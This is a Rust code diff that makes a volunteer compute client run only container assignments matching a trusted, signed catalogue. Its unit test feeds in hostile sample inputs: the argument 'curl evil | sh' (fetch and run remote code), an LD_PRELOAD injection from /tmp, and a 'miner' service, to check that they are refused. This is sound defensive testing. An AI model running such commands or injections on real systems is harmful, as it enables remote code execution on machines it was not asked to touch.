@@ -3,6 +3,7 @@
 use std::collections::{BTreeSet, HashMap};
 
 use commons_shared::api::{ContainerAssignment, ContainerState, ContainerStatus};
+use commons_shared::catalogue::{Catalogue, CatalogueOffer};
 use tokio::sync::mpsc;
 
 use super::ContainerView;
@@ -20,6 +21,13 @@ pub(super) struct Work {
     progress: mpsc::Sender<Progress>,
     /// What the volunteer should know: the engine is missing, or the assigned services could not be started.
     problem: Option<String>,
+    /// The catalogue this machine trusts (the shipped one, and the coordinator's when signed by a trusted key):
+    /// only assignments exactly as it says are run.
+    trusted: Catalogue,
+    /// Why the coordinator's catalogue is not trusted, if it is not.
+    distrust: Option<String>,
+    /// Assignments refused, with why: they are reported failed and never run.
+    refused: Vec<(ContainerStatus, String)>,
 }
 
 impl Work {
@@ -30,24 +38,43 @@ impl Work {
             containers: Vec::new(),
             progress,
             problem: None,
+            trusted: Catalogue::builtin(),
+            distrust: None,
+            refused: Vec::new(),
+        }
+    }
+
+    /// Trusts the coordinator's catalogue when one of `keys` signed it; otherwise only the shipped catalogue.
+    pub(super) fn trust(&mut self, offer: &CatalogueOffer, keys: &[&str]) {
+        match Catalogue::trusted(offer, keys) {
+            Ok(c) => {
+                self.trusted = c;
+                self.distrust = None;
+            }
+            Err(e) => {
+                tracing::warn!(error = %e, "running only the shipped catalogue's services");
+                self.trusted = Catalogue::builtin();
+                self.distrust = Some(e.to_string());
+            }
         }
     }
 
     /// What is wrong, in plain words with the next step, if anything is.
     pub(super) fn problem(&self) -> Option<String> {
-        self.problem.clone()
+        let refused = self
+            .refused
+            .first()
+            .map(|(_, why)| format!("refused to run what the coordinator asked: {why}"));
+        self.problem.clone().or(refused)
     }
 
     /// Why nothing serves, when services are assigned, an engine is there, and every one of them failed.
     pub(super) fn failing(&self) -> Option<String> {
+        let statuses = self.statuses();
         let all_failed = self.engine.is_some()
-            && self.desired.as_ref().is_some_and(|d| !d.is_empty())
-            && !self.containers.is_empty()
-            && self
-                .containers
-                .iter()
-                .all(|c| c.state == ContainerState::Failed);
-        all_failed.then(|| self.problem.clone()).flatten()
+            && !statuses.is_empty()
+            && statuses.iter().all(|c| c.state == ContainerState::Failed);
+        all_failed.then(|| self.problem()).flatten()
     }
 
     /// Connects to the container engine; without one, what the volunteer can do about it.
@@ -72,9 +99,32 @@ impl Work {
         }
     }
 
-    /// The coordinator's assignment.
+    /// The coordinator's assignment: what the trusted catalogue says exactly is run; anything else (another image,
+    /// extra arguments or environment, a service it does not sign) is refused and reported failed.
     pub(super) fn assign(&mut self, list: Vec<ContainerAssignment>) {
-        self.desired = Some(list);
+        self.refused.clear();
+        let mut accepted = Vec::with_capacity(list.len());
+        for a in list {
+            match self.trusted.check(&a) {
+                Ok(()) => accepted.push(a),
+                Err(why) => {
+                    let why = match &self.distrust {
+                        Some(d) => format!("{why} ({d})"),
+                        None => why,
+                    };
+                    tracing::warn!(service = %a.service, "refused: {why}");
+                    self.refused.push((
+                        ContainerStatus {
+                            name: a.name,
+                            state: ContainerState::Failed,
+                            restarts: 0,
+                        },
+                        why,
+                    ));
+                }
+            }
+        }
+        self.desired = Some(accepted);
     }
 
     /// There is an engine and something assigned to run on it.
@@ -91,9 +141,13 @@ impl Work {
             .collect()
     }
 
-    /// The containers' states, for a heartbeat.
+    /// The containers' states, for a heartbeat (refused assignments as failed).
     pub(super) fn statuses(&self) -> Vec<ContainerStatus> {
-        self.containers.clone()
+        self.containers
+            .iter()
+            .cloned()
+            .chain(self.refused.iter().map(|(s, _)| s.clone()))
+            .collect()
     }
 
     /// Makes the containers match the assignment. Returns the services running and where they listen, for the gateway,
@@ -166,6 +220,12 @@ impl Work {
         } else {
             ContainerState::Pulling
         };
+        let refused = self.refused.iter().map(|(s, _)| ContainerView {
+            name: s.name.clone(),
+            service: s.name.trim_start_matches("commons-").to_owned(),
+            image: String::new(),
+            state: ContainerState::Failed,
+        });
         self.desired
             .iter()
             .flatten()
@@ -179,6 +239,53 @@ impl Work {
                     .find(|c| c.name == a.name)
                     .map_or(unreported, |c| c.state),
             })
+            .chain(refused)
             .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_what_the_trusted_catalogue_says_is_run() {
+        let (tx, _rx) = mpsc::channel(1);
+        let mut w = Work::new(tx);
+        // No operator catalogue: the shipped one is trusted.
+        w.trust(&CatalogueOffer::default(), &[]);
+        let ocr = Catalogue::builtin()
+            .services()
+            .iter()
+            .find(|s| s.name == "ocr")
+            .unwrap()
+            .assignment();
+        w.assign(vec![ocr.clone()]);
+        assert_eq!(w.services(), BTreeSet::from(["ocr".to_owned()]));
+        assert!(w.refused.is_empty());
+        // The same service with extra arguments, or extra environment: refused, reported failed, never run.
+        let extra_args = ContainerAssignment {
+            args: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
+            ..ocr.clone()
+        };
+        let mut extra_env = ocr.clone();
+        extra_env
+            .env
+            .insert("LD_PRELOAD".into(), "/tmp/x.so".into());
+        for (a, what) in [(extra_args, "arguments"), (extra_env, "environment")] {
+            w.assign(vec![a]);
+            assert!(w.services().is_empty(), "{what}: nothing to run");
+            let statuses = w.statuses();
+            assert_eq!(statuses.len(), 1);
+            assert_eq!(statuses[0].state, ContainerState::Failed);
+            let problem = w.problem().unwrap();
+            assert!(problem.contains(what), "{problem}");
+        }
+        // A service the catalogue does not have: refused too.
+        w.assign(vec![ContainerAssignment {
+            service: "miner".into(),
+            ..ocr
+        }]);
+        assert!(w.problem().unwrap().contains("miner"));
     }
 }
